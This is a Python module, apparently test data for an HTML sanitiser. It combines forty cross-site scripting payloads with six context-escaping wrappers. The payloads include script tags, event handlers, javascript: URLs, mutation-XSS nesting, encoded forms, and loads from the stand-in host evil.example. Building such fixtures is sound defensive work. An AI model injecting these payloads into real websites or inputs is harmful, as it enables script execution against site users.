"""Texts that would run a program, load something or change a page, if a page took them for more than text.

Each kind of payload goes into each surrounding: what closes an attribute, a tag, a comment or a title,
and what a parser may mend into a tag. All of them call ``ran()`` or load from ``evil.example``.
"""

from itertools import product

_CALLS = (
    "<script>ran()</script>",
    "<ScRiPt\n>ran()</sCrIpT >",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=ran()>",
    "<img src=x onerror='ran()' alt=\"'>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<math><mtext></mtext><script>ran()</script></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>x</details>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    "<a href=javascript:ran()>x</a>",
    '<a href="java\tscript:ran()">x</a>',
    "<iframe src=javascript:ran()></iframe>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<object data=javascript:ran()></object>",
    "<embed src=//evil.example/x.svg>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/b.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>x</button></form>",
    "<template><script>ran()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    '<div style="background:url(//evil.example/c.png)">x</div>',
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;img src=x onerror=ran()&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "{{ 7 * 7 }}{% raw %}{{ ran() }}{% endraw %}",
    "${ran()}#{ran()}<%= ran() %>",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "<!--[if IE]><script>ran()</script><![endif]-->",
    "<![CDATA[<script>ran()</script>]]>",
    "<?xml version='1.0'?><script>ran()</script>",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
)
_AROUND = (
    "{}",
    "\"'>{}",
    "' onmouseover=ran() x='{}",
    "</title></textarea></style></script>{}",
    "--><p>{}</p><!--",
    "</p></div></article>{}<article>",
)
MARKUP = tuple(around.replace("{}", call) for call, around in product(_CALLS, _AROUND))
